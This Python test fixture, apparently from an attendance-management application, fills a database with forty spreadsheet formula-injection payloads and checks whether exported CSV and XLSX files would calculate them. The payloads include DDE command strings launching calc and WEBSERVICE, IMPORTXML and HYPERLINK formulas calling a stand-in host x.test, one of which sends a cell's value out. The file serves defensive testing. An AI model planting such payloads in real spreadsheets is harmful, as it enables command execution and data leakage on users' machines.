"""Forty texts that spreadsheets would calculate, an office in which every text is one of them, and how a cell that
lives is told."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta

import numpy as np

from attendance.services.unit_index import formulas
from attendance.store import intake_log, punch_log, registering
from attendance.store.citizen_tables import ObservationRow
from attendance.store.database import Database, Session
from attendance.store.evidence_tables import PullRow, RulebookRow, RulingRow, ViolationRow
from attendance.store.tables import AssignmentRow, EmployeeRow, EnrolmentRow, TerminalRow, UnitRow
from attendance.store.trail import CONSOLE
from attendance.store.tree_tables import UnitVersionRow

AT = datetime(2026, 10, 1, tzinfo=UTC)
DAY = date(2026, 11, 3)
PEOPLE_OF_A_UNIT = 5
"""As many as any table wants before it shows a unit by name."""
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1+1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u3000=1+1", "\u2009@SUM(1,1)", "\u00ad=1+1", "\u202e=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
    "−1+1", "﹣1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.test?v=\"&A1,\"xem\")", "=WEBSERVICE(\"http://x.test\")",
    "=IMPORTXML(\"http://x.test\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"1\")", "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0", "\"=1+1", "\"\"=1+1", "a;=1+1", "a; =1+1", "a\t=1+1", "a\n=1+1", "a\r\n@SUM(1,1)",
    "a\u2028=1+1", "\x0b=1+1", ";=1+1;=2+2", "\t\r\n \u00a0=1+1",
)  # fmt: skip
assert len(PAYLOADS) == len(set(PAYLOADS)) == 40
SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫−"


def lives(cell: str) -> bool:
    """Whether a spreadsheet would calculate a cell, after all that it passes over; quotes too, as a bad reader does."""
    rest = cell
    while rest and (rest[0] in '"' or unicodedata.category(rest[0]) in ("Zs", "Zl", "Zp", "Cc", "Cf")):
        rest = rest[1:]
    return rest[:1] in SIGNS if rest else False


def cells_of_csv(text: str) -> Iterator[str]:
    """The cells for who reads it as it was written, and for who takes lines apart by another separator."""
    for row in csv.reader(io.StringIO(text, newline="")):
        yield from row
    for line in re.split(r"[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", text):
        yield from line.split(";")
        yield from line.split("\t")


SUM = re.compile(r"SUM\([A-Z]+\d+:[A-Z]+\d+\)")


def formulas_of_xlsx(content: bytes) -> list[str]:
    """Every formula of a workbook but plain sums of its own columns, and every way to call out of it."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            text = book.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += [each for each in re.findall(r"<f[ >][^<]*?>?([^<>]*)</f>", text) if not SUM.fullmatch(each)]
            found += [f"{name}: {each}" for each in re.findall(r"<(?:hyperlink|ddeLink|oleLink)\b", text)]
            if "externalLink" in name:
                found.append(name)
    return found


def texts_of_xlsx(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return "".join(book.read(name).decode() for name in book.namelist() if name.endswith(".xml"))


def build(database: Database) -> None:
    """Forty units with a few people, terminals, verdicts and an observation each; every text of them is a payload.

    They are written past the verbs that would refuse some: a file must be safe whatever the database holds. All the
    people have a verdict in the first of the units, too, so that one sheet holds them all.
    """
    with database.writing() as session:
        session.add(RulebookRow(fingerprint="r", content={}, recorded_at=AT))
        top = UnitRow(code="TOP", recorded_at=AT)
        session.add(top)
        session.flush()
        hours = registering.add_schedule(session, "HC", at=AT)
        registering.add_schedule_version(
            session, "HC", sessions={"am": ["07:30", "11:30"], "pm": ["13:30", "17:00"]}, weekdays=["tue", "wed"], at=AT
        )
        session.add(UnitVersionRow(unit_id=top.id or 0, name="UBND tỉnh", schedule_id=hours.id, recorded_at=AT))
        units = [_unit(session, number, top.id or 0) for number in range(len(PAYLOADS))]
        for number in range(len(PAYLOADS) * PEOPLE_OF_A_UNIT):
            _person(session, number, units)
        new = formulas.NewFormula(unit="TOP", weights={"late": 100}, from_on=date(2026, 1, 1), document="QC 1")
        formulas.file(session, new, by=CONSOLE, at=AT)


def _text(number: int, shift: int) -> str:
    return PAYLOADS[(number + shift) % len(PAYLOADS)]


def _unit(session: Session, number: int, top: int) -> int:
    unit = UnitRow(code=f"{_text(number, 1)}{number}", recorded_at=AT)
    session.add(unit)
    session.flush()
    session.add(UnitVersionRow(unit_id=unit.id or 0, name=_text(number, 0), parent_id=top, recorded_at=AT))
    session.add(
        ObservationRow(
            unit_id=unit.id or 0,
            channel="box",
            kind="wait",
            desk=_text(number, 2),
            on=DAY,
            text=_text(number, 3),
            document=_text(number, 4),
            code_digest=f"{number:064}",
            state="answered",
            received_at=AT,
            outcome="borne_out",
            reason=_text(number, 5),
            answer=_text(number, 6),
            decided_at=AT,
            decided_by="x",
        )
    )
    return unit.id or 0


def _person(session: Session, number: int, units: list[int]) -> None:
    person = EmployeeRow(code=f"{_text(number, 7)}{number}", name=_text(number, 8), recorded_at=AT)
    site = TerminalRow(code=f"{_text(number, 9)}{number}", unit_id=units[number % len(units)], host="", recorded_at=AT)
    session.add_all([person, site])
    session.flush()
    who, where = person.id or 0, site.id or 0
    pin = _text(number, 10)
    session.add(AssignmentRow(employee_id=who, unit_id=units[0], from_on=date(2026, 1, 1), recorded_at=AT))
    session.add(EnrolmentRow(terminal_id=where, pin=pin, employee_id=who, recorded_at=AT))
    pull = intake_log.add_pull(session, PullRow(terminal_id=where, started_at=AT, finished_at=AT))
    wall = np.array([(DAY - date(1970, 1, 1)) // timedelta(days=1) * 86400 + 27000], np.int64)
    punch_log.append(
        session,
        terminal_id=where,
        pull_id=pull,
        first_sequence=1,
        received_at=AT,
        wall=wall,
        pin=np.zeros(1, np.int32),
        pins=[pin],
        state=np.zeros(1, np.uint8),
        verify=np.ones(1, np.uint8),
        index=np.zeros(1, np.int64),
    )
    for shift, unit in enumerate((units[0], units[number % len(units)])):
        _ruling(session, number, who, unit, DAY + timedelta(days=shift))


def _ruling(session: Session, number: int, who: int, unit: int, on: date) -> None:
    name = _text(number, 11)
    cited = {"rule": "schedule.x", "document": _text(number, 12), "article": _text(number, 13)}
    ruling = RulingRow(
        employee_id=who,
        work_date=on,
        revision=1,
        unit_id=unit,
        day_kind="workday",
        scheduled_min=480,
        worked_min=460,
        credited_min=460,
        leave_min=0,
        unverified_min=0,
        flags=[f"exempt:{_text(number, 14)}"],
        symbols={name: _text(number, 15), "am": "+", "pm": "+"},
        citations=[cited],
        rulebook="r",
        digest="d",
        cause="first",
        recorded_at=AT,
    )
    session.add(ruling)
    session.flush()
    session.add(
        ViolationRow(
            ruling_id=ruling.id or 0,
            employee_id=who,
            unit_id=unit,
            work_date=on,
            session=name,
            type="late",
            minutes=20,
            counted_min=20,
            status="counted",
        )
    )
